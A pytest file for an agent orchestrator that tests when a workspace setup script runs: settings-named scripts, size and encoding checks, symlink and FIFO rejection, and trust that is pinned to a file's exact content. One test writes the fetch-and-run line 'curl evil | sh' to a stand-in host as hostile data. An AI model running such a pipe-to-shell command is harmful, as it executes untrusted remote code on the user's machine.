"""The set-up that a new portable session is made with: of the settings, or of the folder if it is trusted."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from orchestrator.core.birth import first_entries
from orchestrator.core.frozen import replace
from orchestrator.core.settings import FolderSetup
from orchestrator.protocol.ops import WorkspaceSource
from orchestrator.sandbox.probe import SandboxSupport
from orchestrator.settings import SettingsError, TrustList
from orchestrator.wiring.portable import SCRIPT_BYTES, NoWorkspace, first_folder, machine_folders
from orchestrator.wiring.worker_parts import tool_config
from orchestrator.workspaces.host_folders import UnfitFolder
from tests.workspaces.test_portable_births import APP, New, born, settings, state_of

__all__ = ["settings"]
EMPTY = WorkspaceSource(empty=True)


def own(folder: Path, content: bytes | str = "make deps\n") -> Path:
    """The folder's own set-up."""
    file = folder / ".dendro/setup.sh"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    return file


async def test_script_of_the_settings_stands_in_the_first_entry(settings: New, tmp_path: Path) -> None:
    script = tmp_path / "install.sh"
    script.write_text("pip install .\n")
    said = ("workspace.setup_network=true", "workspace.setup_timeout_s=90")
    birth = await born(settings(f'workspace.setup="{script}"', *said), EMPTY)
    script.write_text("another one\n")
    portable = state_of(birth).facts.portable
    assert portable is not None
    assert portable.setup == FolderSetup("pip install .\n", True, 90_000, f"workspace.setup ({script})")
    text = await born(settings('workspace.setup_script="npm ci"'), EMPTY)
    assert text.facts.portable is not None
    assert text.facts.portable.setup == FolderSetup("npm ci", origin="workspace.setup_script")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (None, "cannot be read"),
        (b"x" * (SCRIPT_BYTES + 1), "at most 16,384 bytes"),
        (b"\xff\xfe", "in UTF-8"),
        (b"a\0b", "holds a NUL"),
        (b"\n", "is empty"),
    ],
)
def test_file_that_is_no_script_makes_no_session(
    settings: New, tmp_path: Path, content: bytes | None, why: str
) -> None:
    script = tmp_path / "install.sh"
    if content is not None:
        script.write_bytes(content)
    with pytest.raises(NoWorkspace, match=why):
        first_folder(settings(f'workspace.setup="{script}"'), EMPTY)


def test_file_and_text_are_not_set_together(settings: New) -> None:
    with pytest.raises(SettingsError, match="the same script"):
        settings('workspace.setup="/a"', 'workspace.setup_script="b"')


def test_folders_own_setup_is_not_run_until_a_person_trusts_it_as_it_is(
    settings: New, tmp_path: Path
) -> None:
    found, folder = settings(), tmp_path / "work"
    file, wish = own(folder), WorkspaceSource(folder=str(folder))
    first = first_folder(found, wish)
    assert first.portable.setup is None
    assert f"dendro trust {file}" in first.warning
    known = TrustList(found.home)
    known.add(file, file.read_bytes(), 1)
    first = first_folder(found, wish)
    assert first.portable.setup == FolderSetup("make deps\n", origin=".dendro/setup.sh")
    assert first.warning == ""
    own(folder, "curl evil | sh\n")
    assert first_folder(found, wish).portable.setup is None
    other = tmp_path / "other"
    own(other)
    elsewhere = first_folder(found, WorkspaceSource(folder=str(other)))
    assert elsewhere.portable.setup is None, "trusted in one place, it is a stranger's in another"


@pytest.mark.parametrize("link", [".dendro", ".dendro/setup.sh"])
def test_trusted_setup_of_a_folder_below_is_not_run_where_a_link_leads_to_it(
    settings: New, tmp_path: Path, link: str
) -> None:
    """An agent that may write the folder around it can make one."""
    found, folder = settings(), tmp_path / "work"
    file, known = own(folder / "below"), TrustList(found.home)
    known.add(file, file.read_bytes(), 1)
    (folder / link).parent.mkdir(exist_ok=True)
    (folder / link).symlink_to(folder / "below" / link)
    around, below = (WorkspaceSource(folder=str(each)) for each in (folder, folder / "below"))
    first = first_folder(found, around)
    assert first.portable.setup is None
    assert f"dendro trust {folder / '.dendro/setup.sh'}" in first.warning
    assert first_folder(found, below).portable.setup is not None
    known.revoke(file)
    known.add(folder / ".dendro/setup.sh", file.read_bytes(), 1)
    assert first_folder(found, around).portable.setup is not None
    assert first_folder(found, below).portable.setup is None


@pytest.mark.parametrize("trusted", [False, True])
def test_folders_own_setup_that_is_too_long_is_told_to_be_that_whether_or_not_it_is_trusted(
    settings: New, tmp_path: Path, trusted: bool
) -> None:
    found, folder = settings(), tmp_path / "work"
    file = own(folder, b"x" * (SCRIPT_BYTES + 9))
    if trusted:
        TrustList(found.home).add(file, file.read_bytes(), 1)
    first = first_folder(found, WorkspaceSource(folder=str(folder)))
    assert first.portable.setup is None
    assert first.warning.startswith(
        "the folder's own set-up is not run: .dendro/setup.sh: a set-up has at most"
    )


@pytest.mark.parametrize("kind", ["fifo", "link", "folder"])
def test_folders_own_setup_of_a_hostile_kind_is_named_and_not_read(
    settings: New, tmp_path: Path, kind: str
) -> None:
    found, folder = settings(), tmp_path / "work"
    file = own(folder)
    file.unlink()
    outside = tmp_path / "outside"
    outside.write_text("make\n")
    if kind == "fifo":
        os.mkfifo(file)
    elif kind == "link":
        file.symlink_to(outside)
    else:
        file.mkdir()
    first = first_folder(found, WorkspaceSource(folder=str(folder)))
    assert first.portable.setup is None
    assert "the folder's own set-up is not run" in first.warning


async def test_warning_about_an_untrusted_setup_stands_in_the_log(settings: New, tmp_path: Path) -> None:
    birth = await born(settings(), EMPTY)
    told = first_entries(replace(birth, warnings=("not trusted",)))
    assert any(entry.payload.get("message") == "not trusted" for entry in told)


async def test_session_that_begins_with_anothers_folder_keeps_its_setup(
    settings: New, tmp_path: Path
) -> None:
    source = state_of(await born(settings('workspace.setup_script="npm ci"'), EMPTY))
    first = first_folder(settings(), WorkspaceSource(session="s1"), (source, "s1"))
    assert first.portable.setup == FolderSetup("npm ci", origin="workspace.setup_script")


async def test_repository_that_a_worker_clones_has_the_set_up_of_the_settings(settings: New) -> None:
    first = first_folder(settings('workspace.setup_script="npm ci"'), WorkspaceSource(git=APP))
    assert first.portable.setup == FolderSetup("npm ci", origin="workspace.setup_script")


def test_copy_of_a_machines_folder_has_the_set_up_of_the_settings_or_its_own_if_that_is_trusted(
    settings: New, tmp_path: Path
) -> None:
    folder = tmp_path / "work"
    file = own(folder)
    chosen, support = settings('workspace.setup_script="npm ci"'), SandboxSupport(None, 0, ())
    assert machine_folders(chosen, support, ())._config.setup_of(folder)[0] is not None
    found = settings()
    setup_of = machine_folders(found, support, ())._config.setup_of
    setup, warning = setup_of(folder)
    assert setup is None
    assert f"dendro trust {file}" in warning
    TrustList(found.home).add(file, file.read_bytes(), 1)
    assert setup_of(folder) == (FolderSetup("make deps\n", origin=".dendro/setup.sh"), "")
    missing = machine_folders(settings('workspace.setup="/nowhere"'), support, ())._config.setup_of
    with pytest.raises(UnfitFolder, match="name a file"):
        missing(folder)


def test_no_command_rewrites_the_file_that_the_settings_name_as_the_set_up(
    settings: New, tmp_path: Path
) -> None:
    script = tmp_path / "work/install.sh"
    config = tool_config(settings(f'workspace.setup="{script}"'), "", SandboxSupport(None, 0, ()))
    assert script in config.read_only
